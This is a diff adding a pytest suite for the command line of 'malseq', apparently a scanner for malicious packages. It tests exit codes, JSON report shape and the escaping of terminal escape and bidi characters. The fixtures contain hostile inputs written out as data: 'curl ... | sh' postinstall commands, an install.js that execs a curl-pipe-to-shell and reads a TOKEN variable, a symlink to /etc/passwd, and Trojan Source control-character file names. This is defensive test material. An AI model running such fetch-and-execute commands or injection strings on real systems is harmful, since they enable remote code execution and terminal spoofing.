@@ -1,0 +1,251 @@
+"""The command line: exit codes, report shape and order, stdout/stderr split, terminal safety."""
+
+from __future__ import annotations
+
+import gzip
+import io
+import json
+import re
+import struct
+import tarfile
+import zlib
+from pathlib import Path
+
+import pytest
+
+from malseq import _cli
+
+# Characters that must never reach a terminal raw: C0/C1 controls (escape sequences),
+# DEL, and the bidi overrides/isolates of "Trojan Source".
+UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
+ESC = "\x1b[31m"
+RLO = "\u202e"
+
+
+def tgz(files: dict[str, bytes | str], links: dict[str, str] | None = None) -> bytes:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
+        for name, data in files.items():
+            raw = data.encode() if isinstance(data, str) else data
+            info = tarfile.TarInfo(name)
+            info.size = len(raw)
+            tf.addfile(info, io.BytesIO(raw))
+        for name, target in (links or {}).items():
+            info = tarfile.TarInfo(name)
+            info.type = tarfile.SYMTYPE
+            info.linkname = target
+            tf.addfile(info)
+    return gzip.compress(buf.getvalue(), mtime=0)
+
+
+def npm_package(tmp_path: Path, filename: str = "pkg.tgz", name: str = "good-pkg",
+                postinstall: str = "node install.js", **extra: bytes | str) -> Path:
+    manifest = {"name": name, "version": "1.0.0", "scripts": {"postinstall": postinstall}}
+    target = tmp_path / filename
+    target.write_bytes(tgz({"package/package.json": json.dumps(manifest), "package/install.js": "let a = 1;\n",
+                            **{f"package/{k}": v for k, v in extra.items()}}))
+    return target
+
+
+def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
+    code = _cli.main(["scan", *argv])
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+# ---------------------------------------------------------------------------
+# Exit codes
+
+
+def test_clean_scan_exits_0(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    code, out, err = run(capsys, "--no-analysis", str(npm_package(tmp_path)))
+    assert code == 0
+    assert out.startswith(f"{tmp_path / 'pkg.tgz'}: npm:good-pkg@1.0.0 (2 files")
+    assert err == ""  # one target: no progress lines
+
+
+def test_folder_target(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    folder = tmp_path / "pkg"
+    folder.mkdir()
+    (folder / "setup.py").write_text("from setuptools import setup\nsetup(name='folder-pkg', version='2.0')\n")
+    code, out, _ = run(capsys, "--no-analysis", "--format", "json", str(folder))
+    assert code == 0
+    [entry] = json.loads(out)
+    assert entry["package"]["origin"]["kind"] == "folder"
+    assert (entry["package"]["ecosystem"], entry["package"]["name"]) == ("pypi", "folder-pkg")
+    assert entry["package"]["has_setup_py"] is True
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["/no/such/path.tgz"],
+        ["pypi:bad name"],
+        ["npm:@"],
+        ["pkg:gem/rails@1"],
+        ["--format", "xml", "x"],
+        ["--timeout", "0", "."],
+        ["--timeout", "-5", "."],
+        ["--timeout", "soon", "."],
+        ["--no-such-option", "."],
+        [],
+    ],
+)
+def test_usage_errors_exit_2_and_scan_nothing(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
+    code, out, err = run(capsys, "--no-analysis", *argv)
+    assert code == 2
+    assert out == ""
+    assert "error" in err
+
+
+def test_one_bad_target_among_good_ones_is_a_usage_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    # Targets are parsed before any work starts: a typo fails fast, nothing is scanned.
+    good = npm_package(tmp_path)
+    code, out, err = run(capsys, "--no-analysis", str(good), str(tmp_path / "typo.tgz"))
+    assert code == 2 and out == ""
+    assert "typo.tgz" in err and "is neither an existing path nor a registry release" in err
+    assert "[1/2]" not in err
+
+
+def test_no_command_and_help(capsys: pytest.CaptureFixture[str]) -> None:
+    assert _cli.main([]) == 2
+    assert _cli.main(["scan", "--help"]) == 0
+    assert "TARGET" in capsys.readouterr().out
+
+
+def test_any_failed_target_exits_3(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    broken = tmp_path / "broken.tgz"
+    broken.write_bytes(b"")
+    code, out, _ = run(capsys, "--no-analysis", str(npm_package(tmp_path)), str(broken))
+    assert code == 3
+    lines = out.splitlines()
+    assert lines[-2] == f"{broken}: ERROR CorruptArchiveError: file is empty (0 bytes)"
+    assert lines[-1] == "  hint: the file may be an incomplete download; fetch it again"
+
+
+# ---------------------------------------------------------------------------
+# JSON report
+
+
+def test_json_is_a_list_in_target_order(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    a = npm_package(tmp_path, "a.tgz", name="a")
+    bad = tmp_path / "bad.zip"
+    bad.write_bytes(b"PK\x03\x04" + bytes(20))
+    b = npm_package(tmp_path, "b.tgz", name="b")
+    targets = [str(b), str(bad), str(a)]
+    code, out, err = run(capsys, "--no-analysis", "--format", "json", *targets)
+    assert code == 3
+    report = json.loads(out)
+    assert isinstance(report, list)
+    assert [r["target"] for r in report] == targets
+    for r in report:
+        assert ("package" in r) != ("error" in r), r
+        assert isinstance(r["seconds"], float)
+    assert [r.get("package", {}).get("name") for r in report] == ["b", None, "a"]
+    assert set(report[1]["error"]) == {"type", "message", "hint"}
+    assert report[1]["error"]["type"] == "CorruptArchiveError"
+    package = report[0]["package"]
+    assert set(package) >= {"ecosystem", "name", "version", "origin", "files", "bytes", "languages", "binaries",
+                            "skipped", "install_scripts", "has_setup_py", "pth_files"}
+    assert package["install_scripts"] == {"postinstall": "node install.js"}
+    assert package["origin"]["format"] == "tar+gzip" and len(package["origin"]["sha256"]) == 64
+    # Progress went to stderr, one line per target; stdout held the JSON and nothing else.
+    assert [line.split(":")[0] for line in err.splitlines()] == ["[1/3] " + str(b), "[2/3] " + str(bad),
+                                                                 "[3/3] " + str(a)]
+
+
+def test_quiet_silences_progress(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    a, b = npm_package(tmp_path, "a.tgz"), npm_package(tmp_path, "b.tgz")
+    code, out, err = run(capsys, "--no-analysis", "-q", "--format", "json", str(a), str(b))
+    assert code == 0 and err == ""
+    assert len(json.loads(out)) == 2
+
+
+def test_json_escapes_everything_unsafe(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    target = npm_package(tmp_path, name=f"{ESC}evil{RLO}", postinstall=f"curl x|sh {ESC}\x07{RLO}\r")
+    code, out, _ = run(capsys, "--no-analysis", "--format", "json", str(target))
+    assert code == 0
+    assert not UNSAFE.search(out.replace("\n", ""))
+    assert out.isascii()
+    [entry] = json.loads(out)
+    assert entry["package"]["name"] == f"{ESC}evil{RLO}"  # data is kept, only the encoding escapes it
+
+
+# ---------------------------------------------------------------------------
+# Terminal safety in text mode
+
+
+def hostile_package(tmp_path: Path) -> Path:
+    folder = tmp_path / f"dir{ESC}"
+    folder.mkdir()
+    return npm_package(
+        folder,
+        filename=f"sample{RLO}gpj.tgz",
+        name=f"{ESC}evil\u2066pkg{RLO}",
+        postinstall=f"curl http://x | sh {ESC}\x1b]0;title\x07 \u202a\u2069 \x9b31m done\r\nsecond line",
+        **{f"bin{ESC}.dat": b"\x7fELF" + bytes(32), f"\x1b[2Jlink{RLO}": "1"},
+    )
+
+
+def test_text_report_never_prints_control_or_bidi_characters(tmp_path: Path,
+                                                             capsys: pytest.CaptureFixture[str]) -> None:
+    target = hostile_package(tmp_path)
+    code, out, err = run(capsys, "--no-analysis", str(target), str(target))
+    assert code == 0
+    for stream in (out, err):
+        assert not UNSAFE.search(stream.replace("\n", "")), stream
+    assert "\\x1b[31mevil\\u2066pkg\\u202e" in out  # visible, escaped
+    assert "install script postinstall: curl http://x | sh \\x1b[31m\\x1b]0;title\\x07" in out
+    assert "\\r\\nsecond line" in out  # newlines in a value cannot forge report lines
+
+
+def test_text_report_line_structure_survives_hostile_values(tmp_path: Path,
+                                                            capsys: pytest.CaptureFixture[str]) -> None:
+    target = hostile_package(tmp_path)
+    code, out, _ = run(capsys, "--no-analysis", str(target))
+    assert code == 0
+    lines = out.splitlines()
+    assert lines[0].startswith(str(target).replace(ESC, "\\x1b[31m").replace(RLO, "\\u202e") + ": npm:")
+    assert [ln.split(":")[0].strip() for ln in lines[1:]] == ["install script postinstall", "binaries"]
+
+
+def test_skipped_member_names_are_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    target = tmp_path / "links.tgz"
+    target.write_bytes(tgz({"package/package.json": '{"name": "l", "version": "1"}'},
+                           links={f"package/{ESC}x{RLO}": f"/etc/{ESC}passwd"}))
+    code, out, _ = run(capsys, "--no-analysis", str(target))
+    assert code == 0
+    assert not UNSAFE.search(out.replace("\n", ""))
+    assert "skipped 1 member(s):" in out
+    assert "package/\\x1b[31mx\\u202e: symbolic link to '/etc/\\x1b[31mpasswd'" in out
+
+
+def test_error_messages_are_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    # An archive member name ends up in an error message: it must not reach the terminal raw.
+    bad = tmp_path / "enc.zip"
+    name = f"{ESC}x{RLO}.py".encode()
+    body = b"secret"
+    flags = 0x800 | 0x1  # UTF-8 name, encrypted
+    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, 0, 0, 0x21, zlib.crc32(body), len(body) + 12,
+                        len(body), len(name), 0) + name + bytes(12) + body
+    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, flags, 0, 0, 0x21, zlib.crc32(body),
+                          len(body) + 12, len(body), len(name), 0, 0, 0, 0, 0, 0) + name
+    bad.write_bytes(local + central + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central),
+                                                  len(local), 0))
+    code, out, _ = run(capsys, "--no-analysis", str(bad))
+    assert code == 3
+    assert "ERROR ArchivePasswordError: zip member '\\x1b[31mx\\u202e.py' is encrypted" in out
+    assert not UNSAFE.search(out.replace("\n", ""))
+
+
+def test_with_analysis_the_output_stays_clean(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    # Through the whole pipeline, behaviours and snippets included.
+    target = npm_package(
+        tmp_path, name=f"{ESC}evil{RLO}", postinstall=f"node install.js {ESC}{RLO}",
+        **{"install.js": f"require('child_process').exec('curl {ESC}x{RLO} | sh'); // {RLO}\n"
+                         f"process.env['{ESC}TOKEN'];\n"},
+    )
+    code = _cli.main(["scan", "--features", str(target)])
+    out, err = capsys.readouterr()
+    assert code in (0, 1), err
+    assert not UNSAFE.search(out.replace("\n", "")), out
